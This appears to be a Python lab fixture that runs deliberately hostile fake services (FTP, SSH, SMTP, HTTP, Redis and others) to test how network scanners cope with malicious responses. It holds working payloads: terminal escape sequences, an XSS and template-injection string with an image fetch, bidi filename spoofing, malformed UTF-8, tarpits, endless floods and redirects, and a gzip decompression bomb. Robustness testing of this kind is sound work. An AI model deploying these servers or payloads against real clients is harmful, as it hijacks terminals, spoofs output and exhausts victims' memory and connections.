"""Servers that attack whoever scans them, each on the port where a scanner expects something it knows.

Runs as a program inside the host `hostile`; its arguments are the address to redirect to, and a file with a certificate
and a key that takes long to use.
"""

from __future__ import annotations

import asyncio
import gzip
import socket
import ssl
import struct
import sys
import zlib
from collections.abc import Awaitable, Callable

Conversation = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]

TERMINAL = b"\x1b]0;owned\x07\x1b[2J\x1b[31mALL FINE\x1b[0m\r\x9b6n"  # title, clear screen, colour, 8-bit CSI
HTML = b"<script>alert(1)</script><img src=http://198.51.100.17/x>{{7*7}}"
NOT_UTF8 = b"\xff\xfe\x80 \xc0\xaf"
SURROGATE = b"\xed\xa0\x80"  # U+D800 alone, as UTF-8 forbids it: decoded leniently it becomes a lone surrogate
BIDI = "\u202egnp.exe\u2066".encode()
HOSTILE = b" ".join((TERMINAL, HTML, NOT_UTF8, SURROGATE, BIDI)) + b"\x00" + b"A" * 4000


async def banner(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """An FTP server that lets nobody in and says so in its own way."""
    writer.write(b"220 " + HOSTILE + b"\r\n")
    while await reader.readline():
        writer.write(b"530 " + HOSTILE + b"\r\n")
        await writer.drain()


async def tarpit(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """An SSH server that never gets to its version line: as endlessh does."""
    while True:
        writer.write(HOSTILE[:60].replace(b"\r", b" ") + b"\r\n")
        await writer.drain()
        await asyncio.sleep(0.5)


async def redirect(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A web server whose every page has moved to a machine that is not the customer's."""
    request = await reader.readline()
    where = b"neighbour.lab.test" if b" /name" in request else sys.argv[1].encode()
    writer.write(b"HTTP/1.1 301 Moved Permanently\r\nServer: " + HTML + b"\r\nLocation: http://" + where + b"/\r\n")
    writer.write(b"Content-Length: 0\r\nConnection: close\r\n\r\n")
    await writer.drain()


async def silence(reader: asyncio.StreamReader, _writer: asyncio.StreamWriter) -> None:
    """Accepts, listens, never says a word."""
    while await reader.read(65536):
        pass


async def flood(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """One endless Redis bulk reply, for as long as the other side takes it."""
    writer.write(b"$99999999999\r\n")
    while True:
        writer.write(b"A" * 65536)
        await writer.drain()


async def long_greeting(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A mail server whose greeting has ten megabytes, in lines as RFC 5321, 4.2.1, continues them."""
    line = b"220-" + b"W" * 995 + b"\r\n"
    for _ in range(10):
        writer.write(line * 1024)
        await writer.drain()
    writer.write(b"220 hostile.lab.test\r\n")
    while await reader.readline():
        writer.write(b"502 " + HTML + b"\r\n")
        await writer.drain()


async def drip(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """One byte a second: each is in time, the whole never."""
    while True:
        for byte in b"+OK " + b"z" * 3600:
            writer.write(bytes([byte]))
            await writer.drain()
            await asyncio.sleep(1)


async def reset(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Takes the connection and throws it away at once: closing without lingering sends RST (socket(7), SO_LINGER)."""
    link: socket.socket = writer.get_extra_info("socket")
    link.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    writer.transport.abort()


async def redirect_without_end(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A web server that always knows a better address, on itself."""
    word = (await reader.readline()).split()
    number = int(word[1].rpartition(b"/")[2]) + 1 if len(word) > 1 and word[1].rpartition(b"/")[2].isdigit() else 1
    host, port = writer.get_extra_info("sockname")[:2]
    where = f"Location: http://{host}:{port}/further/{number}\r\n".encode()
    writer.write(b"HTTP/1.1 302 Found\r\n" + where + b"Content-Length: 0\r\nConnection: close\r\n\r\n")
    await writer.drain()


def _bomb() -> bytes:
    """Two gigabytes of spaces after the beginning of a page, in two megabytes (RFC 1952)."""
    packer = zlib.compressobj(9, wbits=31)
    chunk = b" " * (1 << 20)
    packed = [packer.compress(b"<!DOCTYPE html><title>Big</title>")]
    packed += [packer.compress(chunk) for _ in range(64)]
    packed.append(packer.flush())
    return b"".join(packed) + gzip.compress(chunk * 64, 9) * 31  # members are concatenated (RFC 1952, 2.2)


async def bomb(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A web page that fills the memory of whoever unpacks it."""
    global packed_page  # noqa: PLW0603 - made on first use: the lab comes up without waiting for it
    await reader.readuntil(b"\r\n\r\n")
    packed_page = packed_page or await asyncio.to_thread(_bomb)
    head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\n"
    writer.write(f"{head}Content-Length: {len(packed_page)}\r\nConnection: close\r\n\r\n".encode() + packed_page)
    await writer.drain()


packed_page = b""
SERVERS: dict[int, Conversation] = {
    21: banner,
    22: tarpit,
    25: long_greeting,
    80: redirect,
    110: drip,
    143: reset,
    443: silence,
    3306: silence,
    6379: flood,
    8080: redirect_without_end,
    8081: bomb,
}


def _until_hangup(conversation: Conversation) -> Conversation:
    async def served(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            await conversation(reader, writer)
        except (OSError, ValueError, asyncio.IncompleteReadError):
            pass  # the scanner hung up, or sent a line longer than a stream takes
        finally:
            writer.close()

    return served


async def main() -> None:
    slow = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    slow.load_cert_chain(sys.argv[2])
    for port, conversation in SERVERS.items():
        secured = slow if port == 443 else None
        await asyncio.start_server(_until_hangup(conversation), "0.0.0.0", port, ssl=secured)
    await asyncio.Event().wait()


if __name__ == "__main__":
    asyncio.run(main())
